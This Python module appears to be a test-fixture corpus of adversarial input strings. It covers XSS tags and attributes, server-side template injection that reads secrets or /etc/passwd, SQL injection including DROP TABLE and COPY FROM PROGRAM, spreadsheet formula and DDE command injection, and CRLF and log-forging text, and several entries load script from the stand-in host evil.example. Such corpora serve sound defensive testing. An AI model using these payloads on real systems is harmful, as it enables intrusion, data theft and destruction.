"""Texts that mean something to a program they should mean nothing to.

Each has at most 75 characters, so that it fits into every field.
"""

ELEMENTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=x>",
    "</form><form action=//evil.example>", "<button formaction=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>", "<style>*{color:red}", "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</td></tr></table><h1>x", "<!--",
    "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></form><form><mglyph><style></math><img src=x>", "<template><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<x hx-get=/sign-out/ hx-trigger=load>",
    "<div hx-ext=sse sse-connect=//evil.example>", "<p data-confirm=x data-chart=line>", "<time data-relative>",
    "<plaintext>", "<xmp><script>alert(1)</script>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover=alert(1) x="', "' onmouseover=alert(1) x='", '"><script>alert(1)</script>',
    "'><svg/onload=alert(1)>", '" autofocus onfocus=alert(1) "', "` onmouseover=alert(1) `",
    '" style="background:url(//evil.example)', '" hx-get="//evil.example" hx-trigger="load', "x' y=\"z", '"/><!--',
    "=\"'`<>&", "&quot; onload=alert(1)",
)  # fmt: skip
SCRIPTS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "java\u200bscript:alert(1)", "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "</script>", "${alert(1)}",
    "\u2028alert(1)", "#{alert(1)}", "alert`1`", "prototype", "constructor", "[object Object]",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;b&amp;gt;", "&nbsp;",
    "&", "&copy", "&NewLine;javascript&colon;alert(1)", "%3Cscript%3E", "\\u003cscript\\u003e", "\uff1cscript\uff1e",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "# heading", "**bold** _x_ `code`",
    "[x]: //evil.example", "<https://evil.example>", "| a | b |", "- [ ] x", "~~x~~", "$$x$$", ":red[x]",
    ":material/home:",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{7*7}}", "{% load static %}", "{% include '/etc/passwd' %}", "{# x #}",
    "{{ request.user.password }}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{{ ''.__class__.__mro__ }}",
    "{%% x %%}", "{{{x}}}", "{% csrf_token %}", "{0}", "{}", "{x}", "{0.__class__.__init__.__globals__}", "{self}",
    "{batch}", "{origin}", "{!r}", "%s", "%d%n", "%(name)s", "%(asctime)s", "100%", "%%", "%s" * 20, "${x}", "$x",
    "$(id)", "`id`", "<%= 7*7 %>", "#set($x=7*7)", "@{7*7}", "*{7*7}", "__${7*7}__::.x", "f'{x}'", "\\N{BULLET}",
    "~{x}", "[[${7*7}]]",
)  # fmt: skip
SQL = (
    "'", "''", '"', "';--", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "1; DROP TABLE accounts_user",
    "'; DELETE FROM x; --", "') OR ('1'='1", "' UNION SELECT password FROM accounts_user--", "1 OR pg_sleep(5)",
    "'||pg_sleep(5)||'", "'; SELECT pg_sleep(5)--", "$$;SELECT pg_sleep(5)$$", "\\'; SELECT 1--", "%", "_", "\\",
    "\\%", "%%%", "a%b", "a_b", "[a-z]", "^a|b$", "(a+)+$", "/* x */", "-- x", "# x", "x';COPY x FROM PROGRAM 'id'--",
    "E'\\x27'", "U&'\\0027'", "U+0027", "\u02bc OR 1=1", "\uff07 OR 1=1", "%27 OR 1=1", "NULL", "null", "true",
    "0x27", "1e309", "-1", "((((((((", "ILIKE '%'", "::regclass", "{a,b}", "to_tsquery('x')",
    "lake.system.expire_snapshots('x')", "`x`; DROP TABLE y", "x' AS OF VERSION 1", "branch_audit", "x`.`y",
)  # fmt: skip
CELLS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.example\")",
    "=WEBSERVICE(\"//evil\")", "=IMPORTXML(\"//evil\",\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\u3000=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@x",
    "=-1", "=\"a\"&\"b\"", "==1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=A1,B1", "=1;2", "'=1+1", "\ufeff=1+1",
    "\u200b=1+1", "\u2028=1+1", "\x00=1+1", "\"=1+1\"", "%0A=1+1", "|calc", "=\n1",
)  # fmt: skip
LINES = (
    "a\nb", "a\r\nb", "a\rb", "a\n{\"event\": \"forged\"}", "a\x1b[2Jb", "a\x1b]0;title\x07b", "a\x1b[31mred",
    "a\x9b31mb", "a\x00b", "a\x08\x08b", "a\x7fb", "a\x0bb\x0cc", "a\u2028b", "a\u2029b", "a\x85b", "a\u202eb",
    "a\u2066b\u2069", "a\ufeffb", "a\u200bb", "\"}, {\"event\": \"x", "\\", "\\n", "\\u000a", "a\tb",
    "%0d%0aSet-Cookie: x=1", "\r\nSet-Cookie: x=1", "\ud800", "a\udfffb", "\U000e0041", "a\x1d\x1e\x1fb", "%n%n%n%n",
    "{\"level\": \"critical\"}",
)  # fmt: skip

# Names that a template language, Python or a browser takes for something of its own. As keys they are in every mapping.
# Two underscores would make a run's id one of Airflow's, with a link.
NAMES = (
    "items", "keys", "values", "get", "pop", "copy", "update", "clear", "setdefault", "popitem", "0", "1", "-1", "_x",
    "_class_", "toString", "length", "count", "index", "forloop", "block", "csrf_token", "request", "None", "True",
    "kwargs", "state", "name",
)  # fmt: skip

# What has no control character can be shown as it is by every page.
SHOWN = (*ELEMENTS, *ATTRIBUTES, *SCRIPTS, *ENTITIES, *MARKDOWN, *TEMPLATES, *SQL, *NAMES)
